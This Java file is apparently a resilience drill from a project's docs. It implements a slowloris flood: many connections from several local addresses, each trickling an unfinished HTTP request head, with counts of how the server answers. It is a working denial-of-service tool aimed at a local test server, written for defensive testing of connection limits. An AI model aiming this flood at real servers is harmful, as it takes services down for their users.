import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.LongAdder;

/**
 * A slowloris flood, for the connection drills of docs/faults.md: {@code connections} connections spread over the
 * local addresses {@code from} (loopback has a whole /8), each sending a request head one byte every {@code interval}
 * and never finishing it, reconnecting a second after the server closes it, for {@code duration}. Prints every 5 s how
 * many are open and how the server answered the ones it closed.
 *
 * <pre>java docs/drills/Slowloris.java 127.0.0.1:8080 10000 127.0.0.2,127.0.0.3 5s 60s</pre>
 */
public class Slowloris {

    static final AtomicInteger open = new AtomicInteger();
    static final AtomicInteger peakOpen = new AtomicInteger();
    static final LongAdder connects = new LongAdder();
    static final LongAdder timedOut = new LongAdder(); // 408
    static final LongAdder refused = new LongAdder(); // 503
    static final LongAdder otherAnswers = new LongAdder();
    static final LongAdder closedSilently = new LongAdder();
    static final LongAdder ioErrors = new LongAdder(); // not connected, or broken while sending

    public static void main(String[] args) throws Exception {
        String[] target = args[0].split(":");
        InetSocketAddress server = new InetSocketAddress(target[0], Integer.parseInt(target[1]));
        int connections = Integer.parseInt(args[1]);
        List<String> from = List.of(args[2].split(","));
        Duration interval = Duration.parse("PT" + args[3].toUpperCase());
        Duration duration = Duration.parse("PT" + args[4].toUpperCase());
        long end = System.nanoTime() + duration.toNanos();
        for (int i = 0; i < connections; i++) {
            String local = from.get(i % from.size());
            Thread.ofVirtual().start(() -> loop(server, local, interval, end));
        }
        long start = System.nanoTime();
        while (System.nanoTime() < end) {
            Thread.sleep(5_000);
            System.out.printf(
                    "t=%3ds open=%d peak=%d connects=%d answered408=%d answered503=%d other=%d closedSilently=%d ioErrors=%d%n",
                    Duration.ofNanos(System.nanoTime() - start).toSeconds(),
                    open.get(), peakOpen.get(), connects.sum(), timedOut.sum(), refused.sum(), otherAnswers.sum(),
                    closedSilently.sum(), ioErrors.sum());
        }
        System.exit(0);
    }

    static void loop(InetSocketAddress server, String local, Duration interval, long end) {
        while (System.nanoTime() < end) {
            try (Socket socket = new Socket()) {
                socket.bind(new InetSocketAddress(local, 0));
                socket.connect(server, 30_000);
                connects.increment();
                peakOpen.accumulateAndGet(open.incrementAndGet(), Math::max);
                try {
                    Thread reader = Thread.ofVirtual().start(() -> read(socket));
                    OutputStream out = socket.getOutputStream();
                    out.write("POST /api/skus/drill/purchases HTTP/1.1\r\nHost: drill\r\nX-Slow: "
                            .getBytes(StandardCharsets.US_ASCII));
                    out.flush();
                    while (reader.isAlive() && System.nanoTime() < end) {
                        reader.join(interval);
                        if (reader.isAlive()) {
                            out.write('a');
                            out.flush();
                        }
                    }
                } finally {
                    open.decrementAndGet();
                }
            } catch (IOException e) {
                ioErrors.increment();
            } catch (InterruptedException e) {
                return;
            }
            sleep(Duration.ofSeconds(1));
        }
    }

    static void read(Socket socket) {
        try {
            InputStream in = socket.getInputStream();
            byte[] head = in.readNBytes(12);
            String status = new String(head, StandardCharsets.US_ASCII);
            if (status.isEmpty()) {
                closedSilently.increment();
            } else if (status.startsWith("HTTP/1.1 408")) {
                timedOut.increment();
            } else if (status.startsWith("HTTP/1.1 503")) {
                refused.increment();
            } else {
                otherAnswers.increment();
            }
            in.readAllBytes();
        } catch (IOException e) {
            closedSilently.increment();
        }
    }

    static void sleep(Duration duration) {
        try {
            Thread.sleep(duration);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
